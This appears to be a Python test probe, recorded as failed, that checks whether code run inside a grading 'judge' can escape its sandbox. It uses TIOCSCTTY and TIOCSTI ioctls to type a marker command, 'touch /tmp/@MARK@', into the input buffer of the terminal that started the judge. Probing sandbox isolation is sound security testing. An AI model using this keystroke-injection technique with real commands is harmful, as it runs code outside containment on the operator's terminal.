# word: FAIL got None
"""Pushes a command into the keyboard's buffer of the terminal that started the judge."""

import fcntl
import os

PUSH, CONTROLLING = 0x5412, 0x540E


def word():
    for place in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0", 0, 1, 2, 3):
        try:
            terminal = place if isinstance(place, int) else os.open(place, os.O_RDWR)
            fcntl.ioctl(terminal, CONTROLLING, 0)
            for letter in b"touch /tmp/@MARK@\n":
                fcntl.ioctl(terminal, PUSH, bytes([letter]))
        except OSError:
            continue
        return f"typed into {place}"
    return None
